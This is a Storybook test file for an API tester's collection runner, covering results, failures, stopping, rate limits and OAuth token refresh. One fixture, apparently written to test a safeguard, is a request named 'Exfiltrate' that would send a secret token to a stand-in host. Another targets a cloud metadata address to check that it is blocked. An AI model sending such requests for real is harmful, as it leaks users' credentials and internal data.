import type { Meta, StoryObj } from '@storybook/react-vite'
import { expect, screen, waitFor, within } from 'storybook/test'
import { testerHandlers } from '@mocks/handlers/tester'
import type { Check } from '../lib/checkTypes'
import { emptyDraft } from '../lib/draft'
import { clearWorkbench } from '../lib/workbenchStorage'
import { HISTORY_STORAGE_KEY } from '../lib/useHistoryPersistence'
import type { CollectionItem, Environment } from '../lib/workbenchTypes'
// The workbench's slice loads with its part; imported here so a story's preloaded state is kept.
import type { WorkbenchState } from '../workbenchSlice'
import '../workbenchSlice'
import type { OAuthState } from '../oauthSlice'
import '../oauthSlice'
import { TesterScreen } from './TesterScreen'

// Running a collection: each state of the runner, from the collections panel's menu.
const meta = {
  title: 'Screens/Tester/Runner',
  component: TesterScreen,
  parameters: { route: '/tools/tester' },
  beforeEach: async () => {
    localStorage.removeItem(HISTORY_STORAGE_KEY)
    await clearWorkbench()
  },
} satisfies Meta<typeof TesterScreen>

export default meta
type Story = StoryObj<typeof meta>

const local: Environment = {
  id: 'env-local',
  name: 'Local',
  variables: [
    { name: 'base', value: 'https://jsonplaceholder.typicode.com', secret: false },
    { name: 'token', value: 'tok_live_4eC39HqLyjWD', secret: true },
  ],
}

const statusIs = (expected: string): Check => ({ id: `s${expected}`, kind: 'status', expected })
const json: Check = { id: 'json', kind: 'header', name: 'content-type', contains: 'json' }
const userId: Check = { id: 'uid', kind: 'jsonPath', path: '$.userId', op: 'equals', expected: '1' }

const saved = (name: string, url: string, checks: Check[] = []): CollectionItem => ({
  kind: 'request',
  id: `r-${name}`,
  name,
  draft: { ...emptyDraft, url, headersText: '{"Authorization": "Bearer {{token}}"}' },
  checks,
})

const withCollection = (
  items: CollectionItem[],
  imported = false,
): { workbench: WorkbenchState } => ({
  workbench: {
    loaded: true,
    environments: [local],
    activeEnvironmentId: local.id,
    collections: [{ id: 'c-posts', name: 'Posts', items, ...(imported && { imported }) }],
    openedRequest: null,
    cookieJars: {},
  },
})

const passing = [
  saved('Post 1', '{{base}}/posts/1', [statusIs('200'), json, userId]),
  {
    kind: 'folder',
    id: 'f-more',
    name: 'More',
    items: [saved('Post 2', '{{base}}/posts/2', [statusIs('200')])],
  },
] satisfies CollectionItem[]

/** Opens the collection's menu and runs it; the runner's dialog. */
async function runCollection(canvas: ReturnType<typeof within>, userEvent: UserEvent) {
  await userEvent.click(await canvas.findByRole('button', { name: 'Collections' }))
  await userEvent.click(await canvas.findByRole('button', { name: 'Actions for collection Posts' }))
  await userEvent.click(await screen.findByRole('menuitem', { name: 'Run collection' }))
  const dialog = await screen.findByRole('dialog', { name: 'Run “Posts”' })
  // The dialog fades in: what it shows is visible once it has (a loaded run saw it mid-fade).
  await waitFor(() => expect(dialog).toBeVisible())
  return within(dialog)
}
type UserEvent = Parameters<NonNullable<Story['play']>>[0]['userEvent']

/** A row of the run's table, by the request's name. */
const row = (dialog: ReturnType<typeof within>, name: string) =>
  dialog.getByRole('button', { name }).closest('tr') as HTMLElement

/** A row's cells: request, method, status, time, checks. */
const cells = (dialog: ReturnType<typeof within>, name: string) =>
  within(row(dialog, name)).getAllByRole('cell')

/** Every request answered and every check passed; a row opens its answer, and the request. */
export const AllPassed: Story = {
  parameters: { store: withCollection(passing) },
  play: async ({ canvas, userEvent }) => {
    const dialog = await runCollection(canvas, userEvent)
    await waitFor(() =>
      expect(dialog.getByText('2 of 2 requests passed their checks')).toBeVisible(),
    )
    const [, method, status, time, checks] = cells(dialog, 'Post 1')
    await expect(method).toHaveTextContent('GET')
    await expect(status).toHaveTextContent('200')
    await expect(time).toHaveTextContent('185 ms')
    await expect(checks).toHaveTextContent(
      'Pass: Status is 200 (actual 200)' +
        'Pass: Header content-type contains "json" (actual application/json; charset=utf-8)' +
        'Pass: $.userId equals 1 (actual 1)',
    )
    await expect(cells(dialog, 'More / Post 2')[2]).toHaveTextContent('200')

    // A row shows its answer in the response viewer; Open request puts it in the form.
    await userEvent.click(dialog.getByRole('button', { name: 'Post 1' }))
    const result = within(dialog.getByRole('region', { name: 'Result of Post 1' }))
    await expect(await result.findByLabelText('Response summary')).toHaveTextContent(
      'Checks: 3 of 3 passed',
    )
    await userEvent.click(result.getByRole('button', { name: 'Open request' }))
    await waitFor(() => expect(screen.queryByRole('dialog')).toBeNull())
    await expect(canvas.getByRole('textbox', { name: 'URL' })).toHaveValue('{{base}}/posts/1')
    // Opened as from the collection: Ctrl+S now saves over it.
    await waitFor(() => expect(screen.getByText('Opened “Post 1”')).toBeVisible())
    await expect(canvas.getByText(/Editing “Post 1”/)).toBeVisible()
  },
}

/** A check failing with its actual value, a blocked address and an unreachable host: the run goes on. */
export const WithFailures: Story = {
  parameters: {
    store: withCollection([
      saved('Post 1', '{{base}}/posts/1', [statusIs('200')]),
      saved('Created?', '{{base}}/posts', [statusIs('201'), json]),
      saved('Metadata', 'http://10.0.0.1/latest/meta-data', [statusIs('200')]),
      saved('Gone', 'https://api.nowhere.invalid/v1', [statusIs('200')]),
    ]),
    msw: { handlers: { tester: testerHandlers.runner } },
  },
  play: async ({ canvas, userEvent }) => {
    const dialog = await runCollection(canvas, userEvent)
    await waitFor(() =>
      expect(dialog.getByText('1 of 4 requests passed their checks')).toBeVisible(),
    )
    const created = cells(dialog, 'Created?')
    await expect(created[2]).toHaveTextContent('200')
    await expect(created[4]).toHaveTextContent(
      'Fail: Status is 201 (actual 200)Pass: Header content-type contains "json"',
    )
    const metadata = cells(dialog, 'Metadata')
    await expect(metadata[2]).toHaveTextContent('Request blocked')
    await expect(metadata[4]).toHaveTextContent(
      'Requests to private or local network addresses are not allowed (cloud metadata address)',
    )
    const gone = cells(dialog, 'Gone')
    await expect(gone[2]).toHaveTextContent('Error')
    await expect(gone[4]).toHaveTextContent('Could not resolve host api.nowhere.example')
  },
}

/** A request using a variable the environment does not set is not sent; the next one is. */
export const NotSentUnsetVariable: Story = {
  parameters: {
    store: withCollection([
      saved('Customer', '{{base}}/users/{{userId}}', [statusIs('200')]),
      saved('Post 1', '{{base}}/posts/1', [statusIs('200')]),
    ]),
  },
  play: async ({ canvas, userEvent }) => {
    const dialog = await runCollection(canvas, userEvent)
    await waitFor(() =>
      expect(dialog.getByText('1 of 2 requests passed their checks')).toBeVisible(),
    )
    const customer = cells(dialog, 'Customer')
    await expect(customer[2]).toHaveTextContent('Not sent')
    await expect(customer[4]).toHaveTextContent('Not sent: set {{userId}} first')
    await expect(cells(dialog, 'Post 1')[2]).toHaveTextContent('200')
  },
}

/** While a request is out: which one, the progress, and Stop. */
export const Running: Story = {
  parameters: {
    store: withCollection(passing),
    msw: { handlers: { tester: testerHandlers.sending } },
  },
  play: async ({ canvas, userEvent }) => {
    const dialog = await runCollection(canvas, userEvent)
    // The dialog fades in: visible once the fade is over, however long a busy machine takes.
    await waitFor(() => expect(dialog.getByText('Running 1 of 2: Post 1…')).toBeVisible())
    await waitFor(() =>
      expect(dialog.getByRole('progressbar', { name: '0 of 2 requests done' })).toBeVisible(),
    )
    await expect(cells(dialog, 'Post 1')[2]).toHaveTextContent('Sending…')
    await expect(cells(dialog, 'More / Post 2')[2]).toHaveTextContent('Queued')
    await expect(dialog.getByRole('button', { name: 'Stop' })).toBeVisible()
  },
}

/** Stop aborts the request in flight and leaves the rest; Run again starts over. */
export const Stopped: Story = {
  ...Running,
  play: async (context) => {
    await Running.play?.(context)
    const { userEvent } = context
    const dialog = within(screen.getByRole('dialog', { name: 'Run “Posts”' }))
    await userEvent.click(dialog.getByRole('button', { name: 'Stop' }))
    await waitFor(() => expect(dialog.getByRole('status')).toHaveTextContent(/^Stopped/))
    await waitFor(() => expect(cells(dialog, 'Post 1')[2]).toHaveTextContent('Stopped'))
    await expect(cells(dialog, 'More / Post 2')[2]).toHaveTextContent('Not run')
    await expect(dialog.getByText(/0 of 2 requests ran before the run was stopped/)).toBeVisible()
    await userEvent.click(dialog.getByRole('button', { name: 'Run again' }))
    await waitFor(() => expect(dialog.getByText('Running 1 of 2: Post 1…')).toBeVisible())
  },
}

/** Our server's rate limit: the run says it waits as long as Retry-After says. */
export const RateLimited: Story = {
  parameters: {
    store: withCollection(passing),
    msw: { handlers: { tester: testerHandlers.rateLimited } },
  },
  play: async ({ canvas, userEvent }) => {
    const dialog = await runCollection(canvas, userEvent)
    await expect(await dialog.findByText('Waiting 42 s for the rate limit')).toBeVisible()
    await expect(cells(dialog, 'Post 1')[2]).toHaveTextContent('Waiting 42 s')
    await userEvent.click(dialog.getByRole('button', { name: 'Stop' }))
    await waitFor(() => expect(cells(dialog, 'Post 1')[2]).toHaveTextContent('Stopped'))
  },
}

/** A collection with nothing in it says so rather than running nothing. */
export const EmptyCollection: Story = {
  parameters: { store: withCollection([]) },
  play: async ({ canvas, userEvent }) => {
    const dialog = await runCollection(canvas, userEvent)
    // The dialog fades in: visible once it has.
    await waitFor(() =>
      expect(dialog.getByText(/Nothing to run: “Posts” has no requests yet/)).toBeVisible(),
    )
    await expect(dialog.queryByRole('button', { name: 'Run again' })).toBeNull()
    await userEvent.click(dialog.getByRole('button', { name: 'Close' }))
    await waitFor(() => expect(screen.queryByRole('dialog')).toBeNull())
  },
}

/**
 * Someone else's collection would send the environment's secret to a host it has not used: the
 * run asks first, naming the host, and can run without those requests.
 */
export const SecretsToNewHost: Story = {
  parameters: {
    store: withCollection(
      [
        saved('Post 1', '{{base}}/posts/1', [statusIs('200')]),
        saved('Exfiltrate', 'https://collector.example/collect'),
      ],
      true,
    ),
  },
  play: async ({ canvas, userEvent }) => {
    const dialog = await runCollection(canvas, userEvent)
    await expect(await dialog.findByText('Send your secrets to collector.example?')).toBeVisible()
    await expect(dialog.getByText(/“Posts” was imported: someone else wrote it/)).toBeVisible()
    await expect(dialog.getByText(/Exfiltrate: \{\{token\}\} to/)).toHaveTextContent(
      'Exfiltrate: {{token}} to collector.example',
    )
    // Nothing runs before the visitor answers.
    await expect(dialog.queryByRole('table')).toBeNull()
    await userEvent.click(dialog.getByRole('button', { name: 'Run without them' }))
    await waitFor(() =>
      expect(dialog.getByText('1 of 2 requests passed their checks')).toBeVisible(),
    )
    await expect(cells(dialog, 'Post 1')[2]).toHaveTextContent('200')
    const [, , status, , checks] = cells(dialog, 'Exfiltrate')
    await expect(status).toHaveTextContent('Not sent')
    await expect(checks).toHaveTextContent(
      'Not sent: it would have sent {{token}} to collector.example',
    )
  },
}

export const SecretsToNewHostDark: Story = {
  ...SecretsToNewHost,
  globals: { theme: 'dark' },
}

export const WithFailuresDark: Story = {
  ...WithFailures,
  globals: { theme: 'dark' },
}

// A saved request whose OAuth 2 token expired since it was granted: the run refreshes it with the
// settings the OAuth panel holds in this tab, says so on the row, and sends with the new token.
const oauthEnvironment: Environment = {
  id: 'env-oauth',
  name: 'OAuth tokens',
  variables: [
    { name: 'base', value: 'https://jsonplaceholder.typicode.com', secret: false },
    { name: 'reports_oauth_access_token', value: 'at-expired-0123456789', secret: true },
    { name: 'reports_oauth_refresh_token', value: 'rt-0123456789', secret: true },
    { name: 'reports_oauth_expires_at', value: '2026-01-01T00:00:00.000Z', secret: false },
    { name: 'reports_oauth_scope', value: 'reports.read', secret: false },
  ],
}

const withExpiredToken = (): { workbench: WorkbenchState; oauth: OAuthState } => ({
  workbench: {
    ...withCollection([]).workbench,
    environments: [oauthEnvironment],
    activeEnvironmentId: oauthEnvironment.id,
    collections: [
      {
        id: 'c-posts',
        name: 'Posts',
        items: [
          {
            kind: 'request',
            id: 'r-report',
            name: 'Post 1',
            draft: {
              ...emptyDraft,
              url: '{{base}}/posts/1',
              headersText: '{"Authorization": "Bearer {{reports_oauth_access_token}}"}',
            },
            checks: [statusIs('200')],
          },
        ],
      },
    ],
  },
  oauth: {
    reports_oauth: {
      settings: {
        grant: 'authorizationCode',
        authorizationUrl: 'https://login.example.com/authorize',
        tokenUrl: 'https://login.example.com/token',
        deviceAuthorizationUrl: '',
        refreshUrl: '',
        clientId: 'atlas-tester',
        clientSecret: '',
        clientAuth: 'body',
        scope: 'reports.read',
      },
      flow: { kind: 'idle' },
    },
  },
})

/** The token had expired: refreshed once, the row says so, and the request passed with it. */
export const TokenRefreshed: Story = {
  parameters: { store: withExpiredToken() },
  play: async ({ canvas, userEvent }) => {
    const dialog = await runCollection(canvas, userEvent)
    await waitFor(() => expect(dialog.getByText('1 of 1 request passed its checks')).toBeVisible())
    const [, , status, , checks] = cells(dialog, 'Post 1')
    await expect(status).toHaveTextContent('200')
    await expect(checks).toHaveTextContent(
      'The reports_oauth token had expired: refreshed, then sent.',
    )
    await expect(checks).toHaveTextContent('Pass: Status is 200 (actual 200)')
  },
}

export const TokenRefreshedDark: Story = { ...TokenRefreshed, globals: { theme: 'dark' } }
